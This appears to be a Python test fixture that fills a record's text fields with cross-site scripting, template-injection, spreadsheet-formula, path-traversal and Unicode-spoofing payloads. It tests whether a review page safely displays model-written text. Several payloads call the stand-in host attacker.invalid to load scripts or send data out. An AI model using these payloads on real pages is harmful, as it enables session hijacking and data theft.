"""What a model could write to take over a reviewer's page, put into every text of a record."""

from __future__ import annotations

import itertools
import typing
from collections.abc import Iterator
from types import UnionType
from typing import Annotated, Any, Literal, Union, get_args, get_origin

from pydantic import BaseModel

from company.records import Record

RAN = "window.__ran=(window.__ran|0)+1"
"""What every script in here does: a page on which it is not 0 or undefined has run one."""
ELEMENT = "x-hostile"
"""An element that no page of ours has: where it is found in the tree, text was read as HTML, script or none."""
OUTSIDE = "https://attacker.invalid"
"""A page that asks for anything there has leaked."""
MARK = f"<{ELEMENT}>"
PAYLOADS: dict[str, str] = {
    "script": f"<script>{RAN}</script>",
    "script, other case": f"<ScRiPt >{RAN}</sCrIpT >",
    "script from outside": f"<script src={OUTSIDE}/a.js></script>",
    "module": f"<script type=module>{RAN}</script>",
    "image that fails": f'<img src=x onerror="{RAN}">',
    "image that fails, no spaces": f"<img/src=x/onerror={RAN}>",
    "image from outside": f"<img src={OUTSIDE}/a.png srcset={OUTSIDE}/b.png>",
    "svg": f'<svg onload="{RAN}"><circle r=9></svg>',
    "svg with a script": f"<svg><script>{RAN}</script></svg>",
    "svg that animates": f'<svg><animate onbegin="{RAN}" attributeName=x dur=1s></svg>',
    "svg that points elsewhere": f'<svg><a xlink:href="javascript:{RAN}"><text y=9>here</text></a></svg>',
    "svg in mathml": f'<math><mtext><table><mglyph><style><img src=x onerror="{RAN}">',
    "event handlers": f'<b onmouseover="{RAN}" onfocus="{RAN}" tabindex=0 autofocus>x</b>',
    "details that open": f'<details open ontoggle="{RAN}"><summary>x</summary></details>',
    "focus by itself": f'<input autofocus onfocus="{RAN}">',
    "out of a double-quoted attribute": f'" autofocus onfocus="{RAN}" x="',
    "out of a single-quoted attribute": f"' autofocus onfocus='{RAN}' x='",
    "out of an unquoted attribute": f" autofocus onfocus={RAN} ",
    "out of a textarea": f"</textarea>{MARK}<script>{RAN}</script>",
    "out of a title": f"</title>{MARK}<script>{RAN}</script>",
    "out of a script": f"</script>{MARK}<script>{RAN}</script>",
    "out of a style": f"</style>{MARK}<img src=x onerror='{RAN}'>",
    "out of an option": f"</option></select>{MARK}<img src=x onerror='{RAN}'>",
    "out of a template": f"</template></noscript></xmp></iframe>{MARK}<script>{RAN}</script>",
    "out of a comment": f"--><!-- x --!>{MARK}<script>{RAN}</script><!--",
    "out of preformatted text": f"</pre></code></td></table></main></form>{MARK}<script>{RAN}</script>",
    "out of a string of script": f"';{RAN};//\";{RAN};//`;{RAN};//${{{RAN}}}",
    "out of JSON in a script": f'"}}]</script>{MARK}<script>{RAN}</script>',
    "a link": f"javascript:{RAN}",
    "a link, disguised": f"java\tscript:{RAN}//\x01javascript:{RAN}",
    "an anchor": f'<a href="javascript:{RAN}" id=link>click</a>',
    "a link as Markdown": f"[click](javascript:{RAN}) ![x]({OUTSIDE}/c.png)",
    "data as a page": f'<iframe src="data:text/html,<script>parent.{RAN}</script>"></iframe>',
    "page in a page": f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe><object data="javascript:{RAN}">',
    "embedded": f'<embed src="data:image/svg+xml,<svg onload={RAN}>"><link rel=import href={OUTSIDE}/i>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={OUTSIDE}/r">',
    "base": f"<base href={OUTSIDE}/>",
    "style element": f"<style>@import url({OUTSIDE}/s.css); body {{display: none}}</style>",
    "style breakout": f"}} body {{ background: url({OUTSIDE}/b) }} * {{ display: none !important; }} /*",
    "style attribute": f'<p style="position:fixed;inset:0;background:url({OUTSIDE}/p)">x</p>',
    "style as a value": f"red; background-image: url({OUTSIDE}/v); position: fixed; inset: 0",
    "form": f'<form action={OUTSIDE}/f><button id=stolen>Accept</button></form><button formaction="javascript:{RAN}">',
    "names of the page's own": "<form id=verdict name=body><input name=csrf value=x><img name=getElementById>",
    "htmx": f'<div hx-get="{OUTSIDE}/h" hx-trigger="load" hx-on:load="{RAN}" hx-vals="js:{RAN}"></div>',
    "template of the server": "{{7*7}} {% for x in ().__class__.__mro__ %}{{x}}{% endfor %} ${7*7} #{7*7} {{config}}",
    "template of the page": f"{{{{constructor.constructor('{RAN}')()}}}} ng-app v-html",
    "entities": f"&lt;script&gt;{RAN}&lt;/script&gt; &#60;img src=x onerror={RAN}&#62; &NewLine; &amp;amp;",
    "encoded": f"%3Cscript%3E{RAN}%3C/script%3E +ADw-script+AD4-{RAN}+ADw-/script+AD4-",
    "processing instruction": f"<?xml-stylesheet href='javascript:{RAN}'?><![CDATA[<script>{RAN}</script>]]>",
    "a formula": '=HYPERLINK("https://attacker.invalid","x")',
    "a command in a cell": "+cmd|'/C calc'!A0 @SUM(1+1)*cmd|' /C calc'!A0 -2+3",
    "right to left": "accept \u202etcejer\u202c \u2066\u2067 \u2068 not closed \u202e",
    "not seen": "pass\u200bword\u200d\u2060\ufeff\u00ad\U000e0041",
    "signs above signs": "Z" + "\u0310\u0353\u0489" * 60,
    "line ends": "a\u2028b\u2029c\x85d\x0be\x0cf\rg\r\nh",
    "control characters": "a\x00b\x07c\x1b[31md\x7fe",
    "surrogates, escaped": "\\ud800 \\udfff &#xD800; &#x0;",
    "no character": "\ufffe\uffff\ufffd",
    "one long word": "W" * 3000,
    "one long word of wide signs": "漢" * 1000,
    "many lines": "\n" * 200 + "end",
    "path": "../../../etc/passwd ..%2f..%2f \\\\attacker.invalid\\share",
    "not a number": "NaN null undefined [object Object] __proto__ constructor",
}
LARGE = f"{MARK}<script>{RAN}</script>" + "0123456789" * (1 << 20)
"""10 MB in one cell."""
_NAMES = {"id", "parent", "stage", "turn", "sha256", "digest", "kind"}
"""What records are found by, which no model writes."""


def everything(start: int = 0, mark: str = "") -> str:
    """All payloads one after the other, with another one first for each start: what it opens hides what follows."""
    texts = list(PAYLOADS.values())
    return f"{mark}{MARK}" + f" {MARK} ".join(texts[start % len(texts) :] + texts[: start % len(texts)])


def hostile(record: Record, start: int = 0) -> Record:
    """The record with all payloads in each of its texts; what it is and where it belongs stay as they are."""
    turn = itertools.count(start)
    changed = {name: _hostile(value, kind, turn) for name, value, kind in _texts(record)}
    return record.model_copy(update=changed)


def _texts(model: BaseModel) -> Iterator[tuple[str, Any, Any]]:
    for name, field in type(model).model_fields.items():
        if name not in _NAMES:
            yield name, getattr(model, name), field.annotation


def _hostile(value: Any, kind: Any, turn: Iterator[int]) -> Any:
    """The value with its texts replaced, where its type allows any text."""
    if isinstance(value, BaseModel):
        return value.model_copy(update={n: _hostile(v, k, turn) for n, v, k in _texts(value)})
    origin, inside = get_origin(kind), get_args(kind)
    if origin is Annotated:
        return _hostile(value, inside[0], turn)
    if origin in (Union, UnionType):
        matching = [each for each in inside if _is(value, each)]
        return _hostile(value, matching[0], turn) if matching else value
    if origin is Literal or value is None:
        return value
    if isinstance(value, str) and kind in (str, Any):
        return everything(next(turn))
    if isinstance(value, tuple | list):
        kinds = inside if inside and Ellipsis not in inside else [inside[0] if inside else Any] * len(value)
        return type(value)(_hostile(each, kind, turn) for each, kind in zip(value, kinds, strict=True))
    if isinstance(value, dict):
        # Of names that programs look up (facts, entries), the values alone.
        free = bool(inside) and inside[1] is str
        of = inside[1] if inside else Any
        return {everything(next(turn)) if free else name: _hostile(each, of, turn) for name, each in value.items()}
    return value


def _is(value: Any, kind: Any) -> bool:
    if kind is type(None):
        return value is None
    origin = get_origin(kind)
    if origin is Literal:
        return value in get_args(kind)
    if kind is Any:
        return True
    return isinstance(value, typing.cast(type, origin or kind))
